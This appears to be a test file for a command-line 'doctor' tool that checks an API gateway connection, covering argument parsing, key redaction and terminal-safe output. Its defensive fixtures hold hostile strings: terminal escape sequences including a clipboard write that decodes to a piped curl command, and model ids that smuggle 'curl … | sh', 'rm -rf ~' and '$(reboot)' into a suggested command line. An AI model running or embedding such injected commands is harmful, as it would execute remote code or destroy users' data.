// Terminal doctor: argument parsing and output formatting (pure parts). The built CLI is
// exercised as a child process in test/integration/doctor.test.ts.
import { strict as assert } from 'node:assert';
import { keyFromStdin, parseArgs } from '../../src/cli/args';
import { balanceLines, renderHuman, renderJson, toJson } from '../../src/cli/format';
import type { VerificationResult } from '../../src/core/types';

function result(partial: Partial<VerificationResult> = {}): VerificationResult {
  return {
    ok: true,
    diagnosis: { code: 'ok', severity: 'info', title: 'Connected', detail: 'All good.', fixes: [], evidence: {}, short: 'OK' },
    baseUrl: {
      input: ' https://api.rutaapi.com/v1/ ',
      normalized: 'https://api.rutaapi.com/v1',
      findings: [{ code: 'trailing_slash', severity: 'info', message: 'Removed the trailing slash.' }],
      asEntered: false,
    },
    key: { cleaned: 'sk-secret-should-not-show-1234', redacted: 'sk-se…1234', findings: [] },
    steps: [
      {
        name: 'models',
        ok: true,
        status: 200,
        requestId: 'req_1',
        latencyMs: 12,
        code: 'ok',
        modelCount: 2,
        contentType: 'application/json',
      },
    ],
    models: ['gpt-4o-mini', 'deepseek-chat'],
    startedAt: '2025-01-01T00:00:00.000Z',
    finishedAt: '2025-01-01T00:00:01.000Z',
    ...partial,
  };
}

describe('doctor: arguments', () => {
  it('check with every option, both --flag value and --flag=value', () => {
    assert.deepEqual(
      parseArgs(['check', '--base-url', 'https://x.test/v1', '--model=gpt-4.1', '--timeout', '2.5', '--json', '--key-stdin']),
      {
        command: 'check',
        baseUrl: 'https://x.test/v1',
        model: 'gpt-4.1',
        timeoutMs: 2500,
        json: true,
        keyStdin: true,
      },
    );
  });
  it('defaults to the RutaAPI Base URL', () => {
    assert.deepEqual(parseArgs(['check']), { command: 'check', baseUrl: 'https://api.rutaapi.com/v1', json: false, keyStdin: false });
  });
  it('help, --help, -h and no arguments', () => {
    for (const argv of [['help'], ['--help'], ['-h'], [], ['check', '--help']]) assert.equal(parseArgs(argv).command, 'help');
  });
  it('refuses a key on the command line, explaining why', () => {
    for (const flag of ['--key', '--api-key', '-k', '--key=sk-abc']) {
      const parsed = parseArgs(['check', flag, 'sk-abc']);
      assert.equal(parsed.command, 'usage_error');
      assert.match((parsed as { message: string }).message, /shell history|process list/);
      assert.ok(!(parsed as { message: string }).message.includes('sk-abc'));
    }
  });
  it('usage errors: unknown flag or command, bad --timeout, missing values', () => {
    for (const argv of [
      ['check', '--verbose'],
      ['frobnicate'],
      ['check', '--timeout', 'abc'],
      ['check', '--timeout', '0'],
      ['check', '--timeout', '-1'],
      ['check', '--timeout', '9999'],
      ['check', '--base-url'],
      ['check', '--model', '--json'],
    ]) {
      assert.equal(parseArgs(argv).command, 'usage_error', argv.join(' '));
    }
  });
});

describe('doctor: output', () => {
  it('--json has exactly the documented shape', () => {
    const json = toJson(
      result({
        ok: false,
        diagnosis: {
          code: 'rate_limited',
          severity: 'warning',
          title: 'T',
          detail: 'D',
          fixes: [
            { kind: 'retry_after', label: 'Retry in 7 s', value: '7' },
            { kind: 'retry', label: 'Try again' },
          ],
          evidence: { status: 429 },
          short: '429',
        },
      }),
    );
    // `dashboard` and `account` were added (fields are added, never renamed); null when unknown.
    assert.deepEqual(Object.keys(json), ['ok', 'diagnosis', 'baseUrl', 'key', 'steps', 'models', 'dashboard', 'account']);
    assert.equal(json.dashboard, null);
    assert.equal(json.account, null);
    assert.deepEqual(Object.keys(json.diagnosis), ['code', 'title', 'detail', 'fixes']);
    assert.deepEqual(json.diagnosis.fixes, [
      { kind: 'retry_after', label: 'Retry in 7 s', value: '7' },
      { kind: 'retry', label: 'Try again' },
    ]);
    assert.deepEqual(json.baseUrl, {
      input: ' https://api.rutaapi.com/v1/ ',
      normalized: 'https://api.rutaapi.com/v1',
      findings: [{ code: 'trailing_slash', severity: 'info' }],
    });
    assert.deepEqual(json.key, { redacted: 'sk-se…1234', findings: [] });
    assert.deepEqual(json.steps, [{ name: 'models', ok: true, status: 200, requestId: 'req_1', latencyMs: 12, code: 'ok' }]);
    assert.deepEqual(json.models, ['gpt-4o-mini', 'deepseek-chat']);
    assert.ok(!JSON.stringify(json).includes('sk-secret-should-not-show'));
  });

  it('human: checklist with ✓, findings, model ids and the --model hint (no guessing)', () => {
    const text = renderHuman(result());
    assert.match(text, /✓ +GET +\/models +200 +12 ms +req_1 +2 models/);
    assert.match(text, /Removed the trailing slash/);
    assert.match(text, /^ {2}gpt-4o-mini$/m);
    assert.match(text, /--model/);
    assert.ok(!text.includes('sk-secret-should-not-show'));
  });

  it('human: a failure shows ✗, cause, fixes and evidence; lists at most 100 ids', () => {
    const text = renderHuman(
      result({
        ok: false,
        steps: [{ name: 'models', ok: false, status: 401, requestId: 'req_9', latencyMs: 5, code: 'unauthorized' }],
        models: [],
        diagnosis: {
          code: 'unauthorized',
          severity: 'error',
          title: 'Invalid API key (401 Unauthorized)',
          detail: 'The key is wrong.',
          fixes: [{ kind: 'open_tokens', label: 'Open Tokens', value: 'https://app.rutaapi.com/console/token' }],
          evidence: { status: 401, requestId: 'req_9', errorCode: 'invalid_api_key' },
          short: '401',
        },
      }),
      { model: 'gpt-4o-mini' },
    );
    assert.match(text, /✗ +GET +\/models +401/);
    assert.match(text, /– +POST \/chat\/completions +not run/);
    assert.match(text, /✗ Invalid API key/);
    assert.match(text, /Cause: The key is wrong\./);
    assert.match(text, /→ Open Tokens: https:\/\/app\.rutaapi\.com\/console\/token/);
    assert.match(text, /request id req_9/);
    const many = renderHuman(result({ models: Array.from({ length: 250 }, (_, i) => `m-${i}`) }));
    assert.match(many, /… and 150 more/);
    assert.ok(!many.includes('m-100\n'));
  });

  const failed = (diagnosis: VerificationResult['diagnosis'], steps: VerificationResult['steps']): VerificationResult =>
    result({ ok: false, models: [], steps, diagnosis });
  const timeoutStep: VerificationResult['steps'][number] = {
    name: 'models',
    ok: false,
    status: null,
    requestId: null,
    latencyMs: 2001,
    code: 'timeout',
  };
  const timeoutDiagnosis: VerificationResult['diagnosis'] = {
    code: 'timeout',
    severity: 'error',
    title: 'No answer in time',
    detail: 'api.rutaapi.com did not answer completely within 2 s.',
    fixes: [
      { kind: 'retry', label: 'Try again' },
      { kind: 'open_proxy_settings', label: 'Open proxy settings (http.proxy, http.proxyStrictSSL)', value: 'http.proxy' },
    ],
    evidence: { networkCode: 'EngineAbort', url: 'https://api.rutaapi.com/v1/models', errorMessage: 'Deadline exceeded' },
    short: 'Timeout',
  };

  it('human: a local/network error is labelled "Error", not "Server message"', () => {
    const text = renderHuman(failed(timeoutDiagnosis, [timeoutStep]));
    assert.match(text, /^ {2}Error: Deadline exceeded$/m);
    assert.doesNotMatch(text, /Server message/);
    const dns = renderHuman(
      failed(
        {
          ...timeoutDiagnosis,
          code: 'dns_failure',
          title: 'The host name could not be found',
          detail: 'nonexistent.invalid could not be resolved (DNS).',
          fixes: [],
          evidence: {
            networkCode: 'ENOTFOUND',
            url: 'https://nonexistent.invalid/v1/models',
            errorMessage: 'fetch failed — getaddrinfo ENOTFOUND nonexistent.invalid',
          },
        },
        [{ ...timeoutStep, code: 'dns_failure' }],
      ),
    );
    assert.match(dns, /^ {2}Error: fetch failed — getaddrinfo ENOTFOUND nonexistent\.invalid$/m);
    assert.doesNotMatch(dns, /Server message/);
  });

  it('human: server text already quoted in the cause is not repeated; otherwise it is shown as "Server message"', () => {
    const message = 'Insufficient balance: your account has no credits left.';
    const diagnosis: VerificationResult['diagnosis'] = {
      code: 'insufficient_credits',
      severity: 'error',
      title: 'No credits left (HTTP 403)',
      detail: `No credits. The server says: "${message}"`,
      fixes: [],
      evidence: { status: 403, requestId: 'req_2', errorMessage: message },
      short: 'No credits',
    };
    const steps: VerificationResult['steps'] = [
      { name: 'models', ok: false, status: 403, requestId: 'req_2', latencyMs: 9, code: 'insufficient_credits' },
    ];
    const quoted = renderHuman(failed(diagnosis, steps));
    assert.equal(quoted.split(message).length - 1, 1, quoted);
    assert.doesNotMatch(quoted, /Server message|Error:/);
    const notQuoted = renderHuman(failed({ ...diagnosis, detail: 'No credits.' }, steps));
    assert.match(notQuoted, new RegExp(`^ {2}Server message: ${message}$`, 'm'));
  });

  it('human: a terminal hint follows the proxy-settings fix (TLS: NODE_EXTRA_CA_CERTS; others: no HTTPS_PROXY); --json unchanged', () => {
    const timeout = renderHuman(failed(timeoutDiagnosis, [timeoutStep]));
    assert.match(
      timeout,
      /→ Open proxy settings \(http\.proxy, http\.proxyStrictSSL\)\n {6}In a terminal: Node's built-in fetch does not use HTTPS_PROXY; .*VS Code/,
    );
    assert.doesNotMatch(timeout, /NODE_EXTRA_CA_CERTS/);
    for (const code of ['proxy_error', 'dns_failure', 'connection_reset'] as const) {
      assert.match(
        renderHuman(failed({ ...timeoutDiagnosis, code }, [timeoutStep])),
        /In a terminal: Node's built-in fetch does not use HTTPS_PROXY/,
        code,
      );
    }
    const tls = renderHuman(
      failed({ ...timeoutDiagnosis, code: 'tls_error', evidence: { networkCode: 'SELF_SIGNED_CERT_IN_CHAIN' } }, [timeoutStep]),
    );
    assert.match(tls, /→ Open proxy settings .*\n {6}In a terminal: .*NODE_EXTRA_CA_CERTS=\/path\/to\/ca\.pem/);
    assert.doesNotMatch(tls, /HTTPS_PROXY/);
    // No proxy fix, no hint.
    assert.doesNotMatch(
      renderHuman(failed({ ...timeoutDiagnosis, fixes: [{ kind: 'retry', label: 'Try again' }] }, [timeoutStep])),
      /In a terminal/,
    );
    const json = toJson(failed(timeoutDiagnosis, [timeoutStep]));
    assert.deepEqual(json.diagnosis.fixes, timeoutDiagnosis.fixes);
    assert.ok(!JSON.stringify(json).includes('In a terminal'));
  });

  it('human: checklist columns line up, also for a step that did not run or got no HTTP answer', () => {
    const text = renderHuman(failed(timeoutDiagnosis, [timeoutStep]), { model: 'gpt-4o-mini' });
    const rows = text.split('\n').filter((l) => /\/(models|chat\/completions)/.test(l) && /^ {2}[✓✗–] /.test(l));
    assert.equal(rows.length, 2, text);
    const column = (row: string, re: RegExp): number => row.search(re);
    assert.equal(column(rows[0], /(GET|POST) /), column(rows[1], /(GET|POST) /), rows.join('\n'));
    assert.doesNotMatch(text, /---/);
    assert.match(rows[0], /GET +\/models +— +2001 ms +timeout/);
    const ok = renderHuman(result(), { model: 'gpt-4o-mini' })
      .split('\n')
      .find((l) => l.includes('GET  /models')) as string;
    assert.equal(column(ok, /\d+ ms/) + String(12).length, column(rows[0], /\d+ ms/) + String(2001).length, 'latency column');
    assert.equal(column(ok, /(GET|POST) /), column(rows[1], /(GET|POST) /));
  });
});

// Hostile text a gateway may send: clear screen, OSC 52 clipboard write, a carriage return that
// overwrites the line, CSI as a C1 control, a right-to-left override, a zero-width space, DEL.
const HOSTILE = '\x1b[2J\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\r✓ Connected\u009b31m\u202egnp.exe\u200b\x7f';
/** Any raw control (other than the newline between lines), C1, DEL, bidi or zero-width character. */
// eslint-disable-next-line no-control-regex -- the raw characters a hostile gateway sends
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]/;

describe('doctor: text from the network is inert in the terminal', () => {
  const hostile = (): VerificationResult =>
    result({
      ok: false,
      model: `m${HOSTILE}`,
      baseUrl: {
        input: `https://api.rutaapi.com/v1${HOSTILE}`,
        normalized: null,
        findings: [{ code: 'unparseable', severity: 'error', message: `Bad ${HOSTILE}` }],
        asEntered: false,
      },
      key: {
        cleaned: 'sk-secret-should-not-show-1234',
        redacted: 'sk-se…1234',
        findings: [{ code: 'non_ascii', severity: 'warning', message: `Key ${HOSTILE}` }],
      },
      steps: [
        { name: 'models', ok: true, status: 200, requestId: `req${HOSTILE}`, latencyMs: 3, code: 'ok', modelCount: 2 },
        { name: 'chat', ok: true, status: 200, requestId: `req2${HOSTILE}`, latencyMs: 4, code: 'ok', replyExcerpt: `Hi${HOSTILE}` },
      ],
      models: [`id${HOSTILE}`, 'plain-id'],
      diagnosis: {
        code: 'html_response',
        severity: 'error',
        title: `HTML page ("${HOSTILE}")`,
        detail: `The server says: "${HOSTILE}"`,
        fixes: [{ kind: 'pick_model', label: `Use ${HOSTILE}`, value: `v${HOSTILE}` }],
        evidence: {
          status: 400,
          requestId: `req${HOSTILE}`,
          errorCode: `code${HOSTILE}`,
          errorType: `type${HOSTILE}`,
          errorMessage: `msg${HOSTILE}`,
          url: `https://x.test/v1${HOSTILE}`,
          location: `https://y.test/${HOSTILE}`,
          networkCode: `E${HOSTILE}`,
          contentType: `text/html${HOSTILE}`,
        },
        short: 'HTML',
      },
    });

  it('human: no raw control, C1, DEL, bidi or zero-width character reaches the terminal; the escapes are visible', () => {
    for (const options of [{}, { model: `m${HOSTILE}` }]) {
      const text = renderHuman(hostile(), options);
      assert.doesNotMatch(text, RAW_CONTROL, JSON.stringify(text));
      assert.ok(text.includes('\\x1b[2J'), 'the ESC is shown as a visible escape');
      assert.ok(text.includes('\\u202e'), 'the bidi override is shown as a visible escape');
    }
    // A passing result with the same hostile fields (reply, request ids, model list, title/detail).
    const ok = renderHuman({ ...hostile(), ok: true, diagnosis: { ...hostile().diagnosis, code: 'ok', severity: 'info' } });
    assert.doesNotMatch(ok, RAW_CONTROL, JSON.stringify(ok));
  });

  it('--json: C1, DEL, bidi and zero-width characters are \\u escapes in the bytes, the parsed values are unchanged', () => {
    const text = renderJson(hostile());
    assert.doesNotMatch(text.replace(/\n/g, ''), RAW_CONTROL, text);
    assert.match(text, /\\u009b/);
    assert.match(text, /\\u202e/);
    assert.match(text, /\\u200b/);
    assert.match(text, /\\u007f/);
    const parsed = JSON.parse(text) as ReturnType<typeof toJson>;
    assert.deepEqual(parsed.models, hostile().models);
    assert.equal(parsed.diagnosis.detail, hostile().diagnosis.detail);
    assert.equal(parsed.steps[0]!.requestId, `req${HOSTILE}`);
    assert.deepEqual(parsed, JSON.parse(JSON.stringify(toJson(hostile()))));
    assert.ok(text.includes('✓ Connected'), 'ordinary non-ASCII stays as it is');
  });

  it('the suggested command line shell-quotes the model id and the Base URL', () => {
    const evil = 'gpt-4o; curl -s https://x.example/p | sh #';
    const text = renderHuman(result({ models: [evil, 'gpt-4o-mini'] }));
    const line = text.split('\n').find((l) => l.includes('npm run doctor --')) as string;
    assert.equal(
      line,
      `  npm run doctor -- check --base-url https://api.rutaapi.com/v1 --model 'gpt-4o; curl -s https://x.example/p | sh #'`,
    );
    const quoteInId = renderHuman(result({ models: ["it's; rm -rf ~"] }))
      .split('\n')
      .find((l) => l.includes('npm run doctor --')) as string;
    assert.ok(quoteInId.endsWith(`--model 'it'\\''s; rm -rf ~'`), quoteInId);
    const odd = renderHuman(result({ baseUrl: { ...result().baseUrl, normalized: 'https://h.test/v1/$(reboot)' } }));
    assert.match(odd, /--base-url 'https:\/\/h\.test\/v1\/\$\(reboot\)' --model gpt-4o-mini$/m);
  });

  it('the suggested command line skips ids that cannot be one safe word, and is left out when none can', () => {
    const skipped = renderHuman(result({ models: [`bad${HOSTILE}`, 'gpt-4o-mini'] }));
    assert.match(skipped, /--model gpt-4o-mini$/m);
    const none = renderHuman(result({ models: [`bad${HOSTILE}`, 'x\u202ey'] }));
    assert.doesNotMatch(none, /npm run doctor/);
    assert.doesNotMatch(none, RAW_CONTROL);
  });
});

describe('doctor: --timeout', () => {
  it('rounds a positive value below one millisecond up to 1 ms (never 0, which meant the 15 s default)', () => {
    assert.deepEqual(parseArgs(['check', '--timeout', '0.0001']), {
      command: 'check',
      baseUrl: 'https://api.rutaapi.com/v1',
      timeoutMs: 1,
      json: false,
      keyStdin: false,
    });
    assert.equal((parseArgs(['check', '--timeout', '0.0004']) as { timeoutMs: number }).timeoutMs, 1);
    assert.equal((parseArgs(['check', '--timeout=0.001']) as { timeoutMs: number }).timeoutMs, 1);
    assert.equal((parseArgs(['check', '--timeout', '0.5']) as { timeoutMs: number }).timeoutMs, 500);
  });
  it('rejects zero, negative, non-finite and non-numeric values with a clear message', () => {
    for (const bad of ['0', '0.0', '0.0000', '-1', 'NaN', 'Infinity', '1e309', '', ' ', 'abc', '601']) {
      const parsed = parseArgs(['check', '--timeout', bad]);
      assert.equal(parsed.command, 'usage_error', JSON.stringify(bad));
      assert.match((parsed as { message: string }).message, /--timeout needs a number of seconds greater than 0/);
    }
  });
});

describe('doctor: the Base URL as entered is echoed without its query or fragment', () => {
  const withInput = (input: string, normalized: string | null): VerificationResult =>
    result({
      baseUrl: {
        input,
        normalized,
        findings: [{ code: 'query_or_fragment', severity: 'warning', message: 'Removed the part after "?" or "#".' }],
        asEntered: false,
      },
    });

  it('--json baseUrl.input drops ?query and #fragment and says so', () => {
    assert.equal(
      toJson(withInput('https://api.rutaapi.com/v1?pass=hunter2', 'https://api.rutaapi.com/v1')).baseUrl.input,
      'https://api.rutaapi.com/v1 (query removed)',
    );
    assert.equal(
      toJson(withInput('https://api.rutaapi.com/v1#tok=hunter2', 'https://api.rutaapi.com/v1')).baseUrl.input,
      'https://api.rutaapi.com/v1 (fragment removed)',
    );
    assert.equal(
      toJson(withInput('https://api.rutaapi.com/v1?pass=hunter2#x', 'https://api.rutaapi.com/v1')).baseUrl.input,
      'https://api.rutaapi.com/v1 (query and fragment removed)',
    );
    const text = renderJson(withInput('https://api.rutaapi.com/v1?pass=hunter2', 'https://api.rutaapi.com/v1'));
    assert.ok(!text.includes('hunter2'), text);
  });

  it('human: the Base URL line never shows the query, also when the input could not be normalised', () => {
    const text = renderHuman(withInput('not a url?pass=hunter2', null));
    assert.ok(!text.includes('hunter2'), text);
    assert.match(text, /^ {2}Base URL {2}not a url \(query removed\)$/m);
    assert.ok(!renderHuman(withInput('https://api.rutaapi.com/v1?pass=hunter2', 'https://api.rutaapi.com/v1')).includes('hunter2'));
  });
});

describe('doctor: --key-stdin reads the first line only', () => {
  it('a pass entry (key, then metadata lines): the key alone, whatever the line ends', () => {
    for (const eol of ['\n', '\r\n', '\r']) {
      assert.equal(keyFromStdin(`sk-ruta-abc123${eol}login: me${eol}url: https://x.example${eol}`), 'sk-ruta-abc123');
    }
    assert.equal(keyFromStdin('sk-ruta-abc123'), 'sk-ruta-abc123');
    assert.equal(keyFromStdin('sk-ruta-abc123\n'), 'sk-ruta-abc123');
    assert.equal(keyFromStdin('\nsk-ruta-abc123\n'), '', 'an empty first line is no key (nothing else is read)');
  });
});

describe('doctor: the key figures (issue 22: absurd figures, a 22 KB model list)', () => {
  const figures = {
    keyName: null,
    unlimited: false,
    granted: null,
    used: null,
    available: null,
    unit: 'USD',
    expiresAt: null,
    models: null,
  };

  it('figures the gateway gave as nonsense (null at the boundary) read "unknown", never Infinity or a negative amount', () => {
    assert.deepEqual(balanceLines(figures), ['Balance: unknown']);
    assert.deepEqual(balanceLines({ ...figures, available: 3 }), ['Balance: 3.00 USD left']);
  });

  it('a key limited to thousands of long model ids: five named, then how many more (--json keeps the list)', () => {
    const models = Array.from({ length: 5000 }, (_, i) => `model-${i}-${'x'.repeat(150)}`);
    const lines = balanceLines({ ...figures, granted: 10, used: 1, available: 9, models });
    const line = lines.find((l) => l.startsWith('Key limited to: '));
    assert.ok(line && line.length < 1000, `${line?.length}`);
    assert.match(line, /^Key limited to: model-0-x+, model-1-.*model-4-x+ and 4995 more$/);
  });
});
